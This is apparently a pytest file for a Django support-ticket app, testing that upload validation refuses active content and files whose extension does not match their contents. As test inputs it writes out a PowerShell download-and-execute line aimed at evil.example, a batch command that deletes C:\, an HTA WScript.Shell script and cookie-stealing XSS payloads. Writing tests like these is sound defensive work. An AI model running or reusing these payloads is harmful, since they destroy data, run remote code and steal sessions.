"""Upload type confusion: attachments are allowed by content, the name's last extension must
agree with it, and files are stored under random names with the detected type's extension."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from tickets import services
from tickets.models import Attachment

pytestmark = pytest.mark.django_db

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00"
    b"\x00\x00IEND\xaeB`\x82"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'


def zipped() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("tidb.log", "ERROR")
    return buffer.getvalue()


@pytest.fixture
def ticket(enterprise_org):
    organization, owner, cluster = enterprise_org
    return services.ticket_create(
        reporter=owner,
        portal="technical",
        organization=organization,
        cluster=cluster,
        environment="production",
        severity="S3",
        summary="Slow joins",
        description="Joins are slow.",
    )


def attach(ticket, name, content):
    return services.ticket_comment_add(
        ticket=ticket,
        author=ticket.reporter,
        body="file",
        attachments=[SimpleUploadedFile(name, content)],
    )


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("run.hta", b"<html><script>new ActiveXObject('WScript.Shell')</script></html>"),
        ("run.bat", b"@echo off\r\ndel /q C:\\*\r\n"),
        ("run.ps1", b"Invoke-WebRequest https://evil.example | iex\n"),
        ("app.js", b"fetch('/admin/').then(r => r.text())\n"),
        ("page.html", b"<script>alert(document.cookie)</script>"),
        ("image.svg", SVG),
        ("real.png.html", PNG),
        ("photo.png", SVG),
        ("archive.zip.exe", zipped()),
        ("program.exe", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64),
    ],
)
def test_active_content_and_mismatched_names_are_refused(ticket, name, content):
    with pytest.raises(ValidationError) as error:
        attach(ticket, name, content)
    message = " ".join(error.value.messages)
    assert name in message
    assert "PNG, JPEG, GIF, WebP" in message and "ZIP, gzip and tar" in message
    assert not Attachment.objects.exists()


@pytest.mark.parametrize(
    ("name", "content", "stored_extension"),
    [
        ("screenshot.png", PNG, ".png"),
        ("logs.zip", zipped(), ".zip"),
        ("tidb.log", b"[ERROR] region unavailable\n", ".log"),
        ("notes", b"plain text", ".txt"),
    ],
)
def test_stored_names_are_random_with_the_detected_extension(
    ticket, name, content, stored_extension
):
    attach(ticket, name, content)
    attachment = Attachment.objects.get()
    stored = attachment.file.name.rsplit("/", 1)[-1]
    assert stored.endswith(stored_extension)
    assert name.split(".")[0] not in stored
    assert attachment.original_name == name


def test_the_original_name_is_only_the_download_filename(client, ticket):
    attach(ticket, "tidb.log", b"[ERROR] region unavailable\n")
    attachment = Attachment.objects.get()
    client.force_login(ticket.reporter)
    response = client.get(f"/requests/{ticket.key}/attachments/{attachment.pk}/")
    assert response["Content-Disposition"] == 'attachment; filename="tidb.log"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "text/plain"
